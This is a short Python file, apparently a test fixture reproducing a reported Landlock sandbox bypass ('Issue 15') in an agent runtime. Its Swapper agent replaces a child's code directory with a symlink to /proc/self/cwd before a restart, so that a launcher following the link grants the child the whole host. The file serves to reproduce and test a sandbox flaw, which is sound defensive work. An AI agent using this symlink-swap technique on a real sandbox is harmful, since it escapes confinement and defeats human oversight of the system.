"""Issue 15's Landlock bypass on restart: starts `HOME/sub/x.py` (a copy of swapped.py, its
task) with a restart policy, says `child ID`, and when told to (a message) swaps `sub` for a
symlink to `/proc/self/cwd` before the restart (and lives on until a second message): the
root launcher's working directory is `/`, so a launcher that follows it grants the restarted
child the whole host."""

import json
import os
import shutil
from pathlib import Path

from sdk import Agent


class Swapper(Agent):
    def run(self, task: str) -> str:
        order = json.loads(task)
        home = Path(os.environ["HOME"])
        sub = home / "sub"
        sub.mkdir()
        code = sub / "x.py"
        shutil.copyfile(order["code"], code)
        home.chmod(0o711)  # a child of another uid must reach its code
        sub.chmod(0o755)
        code.chmod(0o644)
        child = self.proc.spawn(str(code), argv=[str(code)], name=order["name"],
                                restart="on-failure")
        print(f"child {child}", flush=True)
        self.ipc.recv()
        sub.rename(home / "sub.real")
        sub.symlink_to("/proc/self/cwd")
        print("swapped", flush=True)
        # Stay alive until told: a home is locked and unmounted when its agent ends, which
        # would take the child's code away and hide the attack this stages.
        self.ipc.recv()
        return "swapped"
